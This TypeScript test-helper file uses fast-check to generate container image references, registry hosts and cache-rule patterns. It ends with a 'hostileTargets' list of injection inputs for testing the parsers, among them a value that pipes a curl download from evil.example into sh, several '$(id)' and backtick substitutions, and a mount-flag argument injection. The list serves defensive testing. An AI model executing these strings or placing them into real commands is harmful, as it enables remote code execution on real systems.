import fc from 'fast-check';
import type { CacheRule, ImageReference, RepositoryPattern, SourceRepository } from '../../../src/domain/types.ts';
import { rule as sample } from '../../samples.ts';

const lowerOrDigit = 'abcdefghijklmnopqrstuvwxyz0123456789';
const letters = (alphabet: string, minLength: number, maxLength: number) =>
  fc.string({ unit: fc.constantFrom(...Array.from(alphabet)), minLength, maxLength });

const segment = fc
  .tuple(
    letters(lowerOrDigit, 1, 6),
    fc.array(fc.tuple(fc.constantFrom('.', '_', '__', '-', '---'), letters(lowerOrDigit, 1, 4)), { maxLength: 2 }),
  )
  .map(([head, tail]) => head + tail.flat().join(''));

/** Any valid path, also such whose first segment looks like a host. */
export const anyRepository = fc.array(segment, { minLength: 1, maxLength: 5 }).map((parts) => parts.join('/'));

/** A path that stays a path when written without host: its first segment is not taken for a host. */
const shortRepository = anyRepository.filter((path) => {
  const first = path.split('/')[0]!;
  return !path.includes('/') ? !/^[a-f0-9]{64}$/.test(path) : !first.includes('.') && first !== 'localhost';
});

/** Paths over a tiny alphabet, so that patterns and repositories meet often. */
export const crowdedRepository = fc
  .array(fc.constantFrom('a', 'b', 'ab', 'a-b'), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join('/'));

const port = fc.integer({ min: 1, max: 65535 }).map((number) => `:${number}`);
const dnsName = fc
  .array(letters(lowerOrDigit, 1, 10), { minLength: 2, maxLength: 4 })
  .map((labels) => labels.join('.'));
const ipv6 = fc.constantFrom('[::1]', '[2001:db8::7]', '[fe80:0:0:0:1:2:3:4]');

export const loginServer = fc.oneof(
  dnsName,
  fc
    .tuple(fc.oneof(dnsName, fc.constantFrom('localhost', 'registry', '127.0.0.1')), port)
    .map((parts) => parts.join('')),
  fc.constant('localhost'),
  ipv6,
  fc.tuple(ipv6, port).map((parts) => parts.join('')),
);

const tag = fc
  .tuple(letters(`${lowerOrDigit}ABC_`, 1, 1), letters(`${lowerOrDigit}ABC_.-`, 0, 127))
  .map((parts) => parts.join(''));
const digest = fc.oneof(
  letters('0123456789abcdef', 64, 64).map((hex) => `sha256:${hex}`),
  letters('0123456789abcdef', 128, 128).map((hex) => `sha512:${hex}`),
);

const ends = { tag, digest };

export const imageReference: fc.Arbitrary<ImageReference> = fc.oneof(
  fc.record({ repository: shortRepository, ...ends }, { requiredKeys: ['repository'] }),
  fc.record({ host: loginServer, repository: anyRepository, ...ends }, { requiredKeys: ['host', 'repository'] }),
);

export function patternOf(repository: fc.Arbitrary<string>): fc.Arbitrary<RepositoryPattern> {
  return fc.oneof(
    repository.map((value) => ({ kind: 'repository' as const, repository: value })),
    repository.map((value) => ({ kind: 'prefix' as const, prefix: value })),
    fc.constant({ kind: 'all' as const }),
  );
}

export const anyPattern = patternOf(anyRepository);
export const crowdedPattern = patternOf(crowdedRepository);

export const sourceRepository: fc.Arbitrary<SourceRepository> = fc.record({ loginServer, pattern: anyPattern });

export function rule(targetRepository: string, sourceRepositoryText: string, name = 'MyRule'): CacheRule {
  return sample(name, sourceRepositoryText, targetRepository);
}

/** Text made of the pieces that matter to the parsers, besides arbitrary Unicode. */
export function hostileText(pieces: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 3 })), { maxLength: 60 })
      .map((parts) => parts.join('')),
  );
}

/** Names that a shell would obey, or a reader misread. */
export const hostileTargets = [
  'app:1 && curl https://evil.example/x|sh #',
  'app;id',
  'app`id`',
  'app$(id)',
  'app\ncurl evil.example',
  'app"',
  "app'",
  'app > /tmp/x',
  '-v /:/x app',
  'app --quiet',
  'app\u202egnp',
  'app\u200b',
  'APP',
  '../app',
  'team/*;id',
  'a*b',
  '~',
  '%PATH%',
  '',
];
